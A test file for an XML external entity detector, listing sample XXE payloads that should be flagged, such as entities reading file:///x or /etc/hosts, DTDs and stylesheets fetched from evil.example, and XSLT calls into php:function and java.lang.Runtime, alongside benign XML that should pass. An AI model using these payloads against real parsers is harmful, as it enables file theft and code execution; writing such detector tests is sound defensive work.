import { expect, test } from 'bun:test'
import { xmlExternalEntity } from '../../../src/hooks/anomaly/detectors/xml-external-entity.ts'
import { detectorSuite } from './detector-suite.ts'

const score = (text: string, layers = 0): number =>
  xmlExternalEntity({ text, lower: text.toLowerCase(), layers, place: 'body' })

const attacks: readonly [what: string, ...texts: string[]][] = [
  [
    'a schema from another site',
    '<a xsi:schemaLocation="http://a.example/ http://b.example/c">7</a>',
    '<a xsi:schemaLocation="http://a.example/ http://b.test/c.xsd">7</a>',
    '<xs:include namespace="a" schemaLocation="http://b.example/"/>',
    '<a xsi:noNamespaceSchemaLocation="file:///etc/hosts"/>',
  ],
  [
    'an entity',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>',
    '<!ENTITY % b PUBLIC "x" "http://evil.example/">',
    '<!DOCTYPE a [ <!ENTITY b "c"> ]>',
    '<!DOCTYPE a [<!ENTITY &#x25; b SYSTEM "x">]>',
    "<!DOCTYPE a [<!ENTITY b SYSTEM'file:///x'>]>",
    '<!DOCTYPE a [<!ENTITY% b SYSTEM "x">%b;]>',
    '<!DOCTYPE a [<!ELEMENT a ANY>]>',
    '+ADw-+ACE-DOCTYPE a+AFs-+ADw-+ACE-ENTITY',
  ],
  [
    'a document type from elsewhere',
    '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
    '<!DOCTYPE a PUBLIC "x" "http://evil.example/a.dtd">',
    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://evil.example/a">',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/a.dtd">',
    '<!DOCTYPE a PUBLIC "-//A//DTD B//EN" "file:///x">',
  ],
  [
    'an inclusion',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///x"/></a>',
    '<svg><image xlink:href="expect://id"/></svg>',
  ],
  [
    'a style sheet that reads or calls',
    '<xsl:value-of select="document(\'/x\')"/>',
    '<xsl:value-of select="php:function(\'run\')"/>',
    '<xsl:include href="http://evil.example/a.xsl"/>',
    '<xsl:stylesheet xmlns:x="java:java.lang.Runtime">',
    '<xsl:result-document href="file:///x">',
  ],
]

const honest: readonly [what: string, ...texts: string[]][] = [
  [
    'a schema by its file',
    '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">',
    '<xs:import namespace="urn:a" schemaLocation="types.xsd"/>',
  ],
  [
    'a document type by its public name, or beside the document',
    '<!DOCTYPE html><html lang="en"></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">',
    '<!DOCTYPE mapper PUBLIC "-//example.com//DTD Mapper 3.0//EN" "http://example.com/dtd/mapper.dtd">',
  ],
  [
    'plain XML',
    '<?xml version="1.0"?><a b="c">d &amp; e</a>',
    '<xs:include schemaLocation="a.xsd"/> <include file="a.xml"/> <xsl:value-of select="name"/>',
  ],
  ['prose', 'The <!ENTITY> and <!DOCTYPE> declarations', 'Verify my identity <now>'],
]

test('an escaped entity passes where a page shows code', () => {
  expect(score('<pre><!ENTITY a SYSTEM "b"></pre>', 1)).toBe(0)
})

const repeated = [
  '<!entity ',
  '<!doctype a ',
  '<!doctype a [%',
  '<xi:include ',
  '<a href=',
  '<xsl:include ',
]

detectorSuite((text) => score(text), { attacks, honest, repeated })
